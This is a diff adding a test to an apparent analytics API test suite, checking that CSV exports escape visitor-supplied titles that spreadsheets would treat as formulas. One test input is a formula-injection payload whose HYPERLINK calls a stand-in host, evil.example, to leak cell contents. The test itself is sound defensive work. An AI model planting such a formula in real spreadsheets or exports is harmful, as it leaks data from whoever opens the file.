@@ -358,6 +358,41 @@ describe.each(backends)('on %s', (_name, env, cleanup) => {
       expect(lines).toHaveLength(31);
     });
 
+    it('CSV export: visitor-controlled cells that a spreadsheet would run as formulas come out escaped', async () => {
+      const visitor = `csv-${randomUUID()}`;
+      const start = Date.now() - 3_600_000;
+      const titles = [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+        '+1+2',
+        '-2+3',
+        '@SUM(1,2)',
+        '\tcmd',
+        '\rcmd',
+        'Pricing, plans',
+      ];
+      const stored = await send({ events: titles.map((title, i) => ev({ visitor_id: visitor, title, ts: start + i * 1000 })) });
+      expect(json<{ event_ids: string[] }>(stored).event_ids).toHaveLength(titles.length);
+      const csv = await t.app.inject({
+        url: `/api/v2/events/export?source=pixel&pixel_id=${pixelId}&start_ms=${start}&end_ms=${start + 60_000}&filter=visitor_id:eq:${visitor}&format=csv&select=title,ts_millis`,
+        headers: auth(),
+      });
+      expect(csv.statusCode, csv.body).toBe(200);
+      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
+      expect(csv.body).toBe(
+        [
+          'title,ts_millis',
+          `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",${start}`,
+          `'+1+2,${start + 1000}`,
+          `'-2+3,${start + 2000}`,
+          `"'@SUM(1,2)",${start + 3000}`,
+          `'\tcmd,${start + 4000}`,
+          `"'\rcmd",${start + 5000}`,
+          `"Pricing, plans",${start + 6000}`,
+          '',
+        ].join('\r\n'),
+      );
+    });
+
     it('rejects bad parameters with 400 and a reason', async () => {
       for (const q of [
         `pixel_id=${pixelId}`,
